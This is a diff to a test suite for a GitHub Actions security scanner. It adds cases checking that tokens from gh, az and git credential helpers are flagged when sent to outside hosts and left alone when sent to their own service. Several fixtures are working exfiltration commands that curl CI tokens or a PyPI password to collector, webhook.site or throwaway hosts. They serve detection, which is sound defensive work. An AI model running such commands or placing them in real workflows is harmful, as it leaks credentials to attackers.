@@ -498,6 +498,20 @@ describe('gha-secrets-exfiltration, gha-overprovisioned-secrets, gha-unredacted-
     expect(ids(normal).filter((i) => i.includes('secret'))).toEqual([]);
   });
 
+  it('reads what a credential helper prints (gh auth token, az account get-access-token, git credential fill) as a secret of its service, kept in a variable and sent on a later line', () => {
+    const crossLine = `on: push\n${job('      - run: |\n          t=$(gh auth token)\n          echo building\n          curl -s -d "$t" https://collector.build-insights.dev/x\n')}`;
+    expect(only(crossLine, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 9]]);
+    const sameLine = `on: push\n${job('      - run: curl -s --data "$(az account get-access-token --query accessToken -o tsv)" https://collector.build-insights.dev/x\n')}`;
+    expect(only(sameLine, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'high', 6]]);
+    const fill = `on: push\n${job('      - run: |\n          C=$(printf "protocol=https\\nhost=github.com\\n" | git credential fill)\n          curl -s -X POST -d "$C" https://webhook.site/0d5c6f1e-aaaa-bbbb-cccc-1234567890ab\n')}`;
+    expect(only(fill, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 8]]);
+  });
+
+  it('leaves alone a credential helper\'s token used with its own service (gh api, api.github.com, Azure\'s management API)', () => {
+    const own = `on: push\n${job('      - run: |\n          t=$(gh auth token)\n          curl -s -d @notes.json -H "Authorization: Bearer $t" https://api.github.com/repos/acme/tint/releases\n          curl -s -X POST -d "token=$t" https://api.github.com/repos/acme/tint/dispatches\n          gh api repos/acme/tint --jq .name\n      - run: |\n          T=$(az account get-access-token --query accessToken -o tsv)\n          curl -s -X PUT -d @role.json "https://management.azure.com/subscriptions/s?api-version=2022-04-01&t=$T"\n')}`;
+    expect(only(own, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('reports secrets sent to a host whose name spells a public IP (wildcard DNS, throwaway hosting: the GhostAction shape)', () => {
     const ghost = `on: [push, workflow_dispatch]\n${job('      - run: curl -s -d "password=${{ secrets.PYPI_PASSWORD }}" https://bold-dhawan.45-139-104-115.plesk.page\n')}`;
     expect(only(ghost, 'gha-secrets-exfiltration')).toEqual([['gha-secrets-exfiltration', 'critical', 6]]);
